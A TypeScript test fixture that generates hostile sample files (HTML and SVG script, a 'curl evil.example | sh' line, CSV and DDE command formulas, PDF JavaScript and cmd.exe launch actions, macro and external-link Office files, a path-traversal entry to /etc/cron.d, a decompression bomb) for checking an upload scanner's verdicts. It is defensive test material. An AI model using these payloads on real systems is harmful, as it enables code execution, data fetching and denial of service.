import { deflateSync } from 'node:zlib'
import type { FileVerdict } from '@padron/domain'
import { heic, jpeg, png } from './image.ts'
import { body, docx, xlsx } from './office.ts'
import { compressed, pdf } from './pdf.ts'
import { zip } from './zip.ts'

/** A file that wants something, what it is called, and what is to be said of it. */
export type Hostile = { name: string; content: Uint8Array; verdict: FileVerdict }

const script = '<script>fetch("/api/trpc/customer.list")</script>'
const text = (content: string) => Buffer.from(content)
const external = (type: string) =>
  `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="\\\\evil.example\\a" ` +
  `TargetMode="External"/></Relationships>`
const entities = '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
const scanned = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
const many = (bytes: number) => Buffer.alloc(bytes, 'a')

/** Files that were built to do harm, each of another kind (guarantees C68). */
export const hostileFiles = (): Hostile[] =>
  (
    [
      ['page.html', text(`<!doctype html>${script}`), 'type_refused'],
      ['photo.svg', text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), 'type_refused'],
      ['notes.txt', text(`\ufeff \n ${script}`), 'type_refused'],
      ['feed.xml', text(`<?xml version="1.0"?>${entities}`), 'type_refused'],
      ['setup.pdf', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), 'type_refused'],
      ['tool', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), 'type_refused'],
      ['run.txt', text('#!/bin/sh\ncurl evil.example | sh\n'), 'type_refused'],
      ['picture.gif', Buffer.from('GIF89a/*<script>*/=1;\0', 'latin1'), 'type_refused'],
      ['letter.rtf', text('{\\rtf1{\\object\\objdata 01}}'), 'type_refused'],
      ['test.txt', text(scanned), 'virus'],
      ['prices.csv', text(`name,price\nA,=cmd|'/c calc'!A0\n`), 'formula'],
      ['a.pdf', pdf('3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), 'script'],
      ['b.pdf', pdf('3 0 obj << /S /J#61va#53cript /JS 4 0 R >> endobj'), 'script'],
      ['c.pdf', compressed('3 0 << /S /JavaScript /JS (x) >>'), 'script'],
      ['d.pdf', compressed('3 0 << >>', '/Filter [/ASCIIHexDecode /FlateDecode]'), 'script'],
      ['e.pdf', pdf('3 0 obj << /S /Launch /F (cmd.exe) >> endobj'), 'script'],
      ['f.pdf', pdf('3 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj'), 'embedded'],
      ['g.pdf', pdf('', '\ntrailer << /Encrypt 9 0 R >>\n%%EOF'), 'encrypted'],
      ['h.pdf', Buffer.concat([pdf(), zip([{ name: 'x', content: many(900) }])]), 'appended'],
      ['i.pdf', bombPdf(), 'too_large_inside'],
      ['j.pdf', text('%PDF-1.7\nno end'), 'damaged'],
      ['a.docx', docx({ name: 'word/vbaProject.bin', content: 'x' }), 'macro'],
      ['b.docx', docx({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), 'embedded'],
      [
        'c.docx',
        docx({ name: 'word/_rels/settings.xml.rels', content: external('attachedTemplate') }),
        'external',
      ],
      ['d.docx', docx({ name: 'word/document.xml', content: entities }), 'external'],
      [
        'e.docx',
        docx({ name: 'word/document.xml', content: body('<w:instrText>DDEAUTO c:\\cmd</w:instrText>') }),
        'formula',
      ],
      ['f.docx', docx({ name: '../../etc/cron.d/x', content: 'x' }), 'damaged'],
      ['g.docx', Buffer.concat([text('MZ'), docx()]), 'type_refused'],
      ['h.docx', Buffer.concat([docx(), text(script)]), 'appended'],
      ['i.docx', docx({ name: 'word/media/a.png', content: 'x', lies: { flags: 1 } }), 'encrypted'],
      ['j.docx', docx({ name: 'word/media/a.png', content: many(120 * 1024 * 1024) }), 'too_large_inside'],
      ['k.docx', docx({ name: 'word/b.xml', content: 'x', lies: { at: 0 } }), 'too_large_inside'],
      ['a.xlsx', xlsx({ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }), 'external'],
      [
        'b.xlsx',
        xlsx({ name: 'xl/worksheets/sheet1.xml', content: '<f>WEBSERVICE("http://evil.example")</f>' }),
        'formula',
      ],
      ['c.xlsx', xlsx({ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }), 'macro'],
      ['archive.docx', zip([{ name: 'readme.txt', content: 'hi' }]), 'type_refused'],
      ['tiny.png', png(Buffer.alloc(0), 60_000), 'too_large_inside'],
      ['cut.png', png().subarray(0, 40), 'damaged'],
      ['cut.jpg', jpeg().subarray(0, 60), 'damaged'],
      ['tail.heic', heic(text(script)), 'damaged'],
    ] as const
  ).map(([name, content, verdict]) => ({ name, content, verdict }))

/** Objects kept compressed that would fill the memory of whoever opens them. */
function bombPdf(): Buffer {
  const stream = deflateSync(many(80 * 1024 * 1024))
  const head = pdf(`5 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n`, '')
  return Buffer.concat([head, stream, text('\nendstream endobj\n%%EOF')])
}
